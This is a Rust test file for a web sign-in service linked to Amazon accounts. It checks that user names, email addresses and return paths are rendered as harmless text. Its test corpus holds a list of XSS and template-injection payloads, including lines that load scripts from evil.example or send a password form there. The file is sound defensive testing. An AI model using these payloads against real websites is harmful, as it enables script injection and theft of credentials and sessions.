//! Names, addresses and paths that would like to be a part of a page.

use std::collections::BTreeMap;

use local_stack::Stack;
use scraper::{ElementRef, Html, Node, Selector};
use tests::{Answer, Browser};

use crate::{
    endings::{LINK, LOGIN, REGISTER},
    pretenders::pretend,
    stack_with,
};

const FIELDS: &str = r#"[
    {"name":"name","label":"Name"},
    {"name":"hobby","label":"Hobby","required":true},
    {"name":"phone","label":"Phone","type":"tel"},
    {"name":"colour","label":"Colour","type":"select","options":["red","blue"]}
]"#;

/// What ends the place that a text stands in.
const BREAKS: [&str; 9] =
    ["", "\"", "'", "\">", "</bdi>", "</title>", "</style>", "</option></select>", "-->"];
/// What would do something there.
const SCRIPTS: [&str; 24] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"java&#115;cript:alert(1)\">x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password>",
    "<button formaction=//evil.example>x</button>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    " autofocus onfocus=alert(1) x=",
    " style=x:expression(alert(1)) accesskey=x onclick=alert(1) ",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{% raw %}",
    "javascript:alert(1)//`;alert(1)//\\u003cscript\\u003e\\x3cscript\\x3e",
];

/// Every break before every script.
fn corpus() -> Vec<String> {
    let all = BREAKS.iter().flat_map(|end| SCRIPTS.map(|script| format!("{end}{script}")));
    // As long as a name may be: what is cut off is another text.
    let all: Vec<_> = all.filter(|text| text.chars().count() <= 128).collect();
    assert!(all.len() >= 200, "{}", all.len());
    all
}

/// What a page is made of: every element in its order, with all of its attributes. Values are kept
/// where they could do something; what stands in a field or is read does not count.
#[derive(Clone, Debug, PartialEq)]
struct Skeleton(Vec<(String, BTreeMap<String, String>)>);

impl Skeleton {
    fn of(page: &Answer) -> Self {
        let html = Html::parse_document(&page.text);
        let elements = html.tree.nodes().filter_map(|node| match node.value() {
            Node::Element(element) => {
                let attributes = element.attrs().map(|(name, value)| {
                    let shown = ["value", "data-code"].contains(&name);
                    (name.to_owned(), if shown { String::new() } else { value.to_owned() })
                });
                Some((element.name().to_owned(), attributes.collect()))
            }
            Node::Comment(comment) => Some((format!("!{}", &**comment), BTreeMap::new())),
            _ => None,
        });
        let mut all: Vec<(String, BTreeMap<String, String>)> = elements.collect();
        for (_, attributes) in &mut all {
            // It belongs to the ticket and not to the text.
            if attributes.get("name").is_some_and(|name| name == "csrf") {
                attributes.remove("value");
            }
        }
        Self(all)
    }
}

/// The value of an input, as a browser understands it.
fn value(page: &Answer, name: &str) -> String {
    let html = Html::parse_document(&page.text);
    let input = Selector::parse(&format!("input[name=\"{name}\"], input#{name}")).unwrap();
    html.select(&input).next().unwrap().value().attr("value").unwrap().to_owned()
}

/// The texts that are set apart in a page, as they are read.
fn quoted(page: &Answer) -> Vec<String> {
    let html = Html::parse_document(&page.text);
    let quoted = Selector::parse("main bdi").unwrap();
    html.select(&quoted).map(|bdi: ElementRef<'_>| bdi.text().collect()).collect()
}

async fn site() -> Stack {
    stack_with(&[("RegistrationFields", FIELDS)]).await
}

#[tokio::test]
async fn j01_amazons_name_is_a_text_on_every_page_that_shows_it() {
    let stack = site().await;
    stack.link("ann", "ann").await.unwrap();
    let lin = Browser::new(&stack);
    lin.sign_in_at_amazon("lin", "/").await;
    let session = stack.dynamodb.scan("sessions").unwrap().remove(0);
    let key = ["pk", "sk"].map(|name| (name, session[name]["S"].as_str().unwrap()));
    let mut plain = None;
    for (number, name) in ["Plain Name".to_owned()].into_iter().chain(corpus()).enumerate() {
        // Told by Amazon, and shown before there is an account.
        stack.amazon.change("noa", |noa| noa.name = Some(name.clone()));
        let noa = Browser::new(&stack);
        let form = noa.asked_after_amazon("noa", "/").await;
        assert_eq!(value(&form, "name"), name.trim());
        // Kept with account and session, and shown to whoever is about to leave one for another.
        stack.dynamodb.set("sessions", &key, "name", name.trim()).unwrap();
        stack.dynamodb.set("accounts", &[("id", "ann")], "name", name.as_str()).unwrap();
        let told = lin.fetch("/auth/session", None).await;
        assert!(!told.says("<"), "{}", told.text);
        assert_eq!(told.json()["account"]["name"], name.trim());
        let form = Skeleton::of(&form);
        let (plain_form, plain_switch) = plain.get_or_insert_with(|| (form.clone(), None));
        assert_eq!(&form, plain_form, "{name}");
        // The same words in the same place, whoever is meant: some of them are enough.
        if number % 5 > 0 {
            continue;
        }
        let switch = lin.sign_in_at_amazon("ann", "/").await;
        assert_eq!(quoted(&switch), [name.trim(), name.trim()]);
        let switch = Skeleton::of(&switch);
        assert_eq!(&switch, plain_switch.get_or_insert_with(|| switch.clone()), "{name}");
    }
}

#[tokio::test]
async fn j01_what_a_visitor_types_is_shown_again_as_it_is_and_does_nothing() {
    let stack = site().await;
    stack.amazon.change("noa", |noa| noa.name = None);
    let noa = Browser::new(&stack);
    let page = noa.asked_after_amazon("noa", "/").await;
    let csrf = page.input("csrf").to_owned();
    let mut plain = None;
    for text in ["plain text".to_owned()].into_iter().chain(corpus()) {
        let fields = [
            ("csrf", csrf.as_str()),
            ("email", &text),
            ("name", &text),
            ("hobby", &text),
            ("phone", &text),
            ("colour", &text),
        ];
        let again = noa.post(REGISTER, &fields).await;
        assert_eq!((again.status, again.code()), (422, "invalid_fields"), "{text}");
        for field in ["name", "hobby", "phone"] {
            assert_eq!(value(&again, field), text.trim(), "{field}");
        }
        assert_eq!(value(&again, "email"), text);
        let skeleton = Skeleton::of(&again);
        let plain = plain.get_or_insert_with(|| skeleton.clone());
        assert_eq!(&skeleton, plain, "{text}");
        let body = serde_json::json!({"csrf": csrf, "fields": {"hobby": text}, "email": text});
        let refused = noa.fetch(REGISTER, Some(body)).await;
        let refused = (refused.status, refused.says("alert"), refused.says("<"));
        assert_eq!(refused, (422, false, false), "{text}");
    }
}

/// What an address may hold before its `@` that means something to a page.
const LOCAL_PARTS: [&str; 12] = [
    "a&lt;script&gt;",
    "a&#60img/src=x&#62",
    "'onfocus='alert`1`",
    "a'autofocus/onfocus=alert`1`//",
    "{{7*7}}",
    "${7*7}",
    "a&quot",
    "a&amp&#34",
    "&apos",
    "javascript%3aalert`1`",
    "a--!",
    "`-alert`1`-`",
];

#[tokio::test]
async fn j01_an_address_is_a_text_on_every_page_that_shows_it() {
    let stack = site().await;
    let rows = stack.dynamodb.snapshot().unwrap();
    let mut plain = None;
    let mut shown = 0;
    for local in ["plain"].into_iter().chain(LOCAL_PARTS) {
        // No address at all, where it has what an address cannot have.
        let local: String = local.chars().filter(|c| !";()<>\"".contains(*c)).collect();
        let email = format!("{local}@example.com");
        stack.dynamodb.restore(&rows).unwrap();
        pretend(&stack, "eve", &email);
        let eve = Browser::new(&stack);
        let form = eve.asked_after_amazon("eve", "/").await;
        assert_eq!(value(&form, "email"), email);
        stack.dynamodb.set("accounts", &[("id", "ann")], "email", email.as_str()).unwrap();
        let page = eve.asked_after_amazon("eve", "/").await;
        assert_eq!(value(&page, "username"), email);
        assert_eq!(quoted(&page)[0], email);
        let wrong = eve.prove(&page, "not-hers").await;
        assert_eq!(quoted(&wrong)[1], email, "{}", wrong.text);
        let json = eve.fetch(LINK, None).await;
        assert_eq!(json.json()["email"], email.as_str());
        let skeletons = [form, page, wrong].map(|page| Skeleton::of(&page));
        let plain = plain.get_or_insert_with(|| skeletons.clone());
        assert_eq!(&skeletons, plain, "{email}");
        shown += 1;
    }
    assert_eq!(shown, 1 + LOCAL_PARTS.len());
}

#[tokio::test]
async fn j01_a_path_to_return_to_is_a_path_on_every_page_that_links_to_it() {
    let stack = site().await;
    stack.link("ann", "ann").await.unwrap();
    let lin = Browser::new(&stack);
    lin.sign_in_at_amazon("lin", "/").await;
    let mut taken = 0;
    let mut plain = None;
    let odd =
        ["/a'onclick='alert(1)", "/a?b='&c=&lt;x&d=*", "/(alert)(1);//", "/a&quot;b=;c=$d=!*"];
    let odd = odd.map(str::to_owned).into_iter();
    // The grammar takes none of these: a few are enough.
    let corpus = corpus().into_iter().step_by(5).map(|text| format!("/a?{text}"));
    for path in ["/plain".to_owned()].into_iter().chain(odd).chain(corpus) {
        let query: String = form_urlencoded::byte_serialize(path.as_bytes()).collect();
        let to = format!("{LOGIN}?return_to={query}");
        let start = lin.ask("GET", &to).header("sec-fetch-site", "cross-site").send().await;
        let at_amazon = lin.get(&to).await.location().to_owned();
        let switch = lin.allow(&at_amazon, "ann").await;
        let cancelled = lin.get(&to).await.location().to_owned();
        let back = stack.amazon.cancel(&cancelled).unwrap();
        let back = back.replace("access_denied", "invalid_scope");
        let problem = lin.come_back(&back).await;
        let pages = [start, switch, problem];
        let hrefs = pages.each_ref().map(hrefs);
        let kept = hrefs[1].iter().any(|href| href == &format!("{}{path}", stack.url));
        taken += usize::from(kept);
        for href in hrefs.iter().flatten() {
            let here = href.starts_with('/') && !href.starts_with("//")
                || href.starts_with(&format!("{}/", stack.url));
            assert!(here, "{path}: {href}");
        }
        // But for where its links lead, the page is the same.
        let mut skeletons = pages.each_ref().map(Skeleton::of);
        let elements = skeletons.iter_mut().flat_map(|skeleton| &mut skeleton.0);
        for (_, attributes) in elements.filter(|(element, _)| element == "a") {
            attributes.insert("href".to_owned(), String::new());
        }
        let plain = plain.get_or_insert_with(|| skeletons.clone());
        assert_eq!(&skeletons, plain, "{path}");
    }
    assert_eq!(taken, 5, "the plain one, and those that the grammar takes");
}

/// Where the links of a page lead, as a browser understands it.
fn hrefs(page: &Answer) -> Vec<String> {
    let html = Html::parse_document(&page.text);
    let links = Selector::parse("a[href]").unwrap();
    html.select(&links).map(|link| link.value().attr("href").unwrap().to_owned()).collect()
}

#[tokio::test]
async fn j10_j11_pages_load_nothing_and_a_password_field_is_one() {
    let stack = site().await;
    let ann = Browser::new(&stack);
    let link = ann.asked_after_amazon("ann", "/").await;
    let noa = Browser::new(&stack);
    let register = noa.asked_after_amazon("noa", "/").await;
    let problem = noa.get("/auth/nothing").await;
    for page in [&link, &register, &problem] {
        let html = Html::parse_document(&page.text);
        for selector in ["script", "link", "img", "iframe", "object", "embed", "base", "[srcset]"] {
            let found = html.select(&Selector::parse(selector).unwrap()).count();
            assert_eq!(found, 0, "{selector}: {}", page.url);
        }
        let handlers = html.tree.nodes().filter_map(|node| node.value().as_element());
        for element in handlers {
            let acts = element.attrs().find(|(name, _)| name.starts_with("on") || *name == "style");
            assert_eq!(acts, None, "{}", element.name());
        }
    }
    let html = Html::parse_document(&link.text);
    let passwords = Selector::parse("input[name=password]").unwrap();
    let field = html.select(&passwords).next().unwrap().value();
    assert_eq!(field.attr("type"), Some("password"));
    assert_eq!(field.attr("autocomplete"), Some("current-password"));
    let hindered = ["onpaste", "readonly", "maxlength", "pattern", "minlength"];
    assert!(hindered.iter().all(|name| field.attr(name).is_none()), "{field:?}");
}
